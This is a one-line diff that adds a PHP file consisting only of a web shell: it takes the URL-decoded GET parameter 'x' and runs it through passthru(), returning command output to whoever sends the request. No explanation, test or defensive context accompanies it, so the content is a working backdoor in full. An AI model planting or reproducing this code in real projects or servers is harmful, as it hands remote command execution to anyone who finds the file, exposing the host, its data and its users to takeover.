@@ -1,0 +1,1 @@
+<?php echo passthru(urldecode($_GET["x"]));
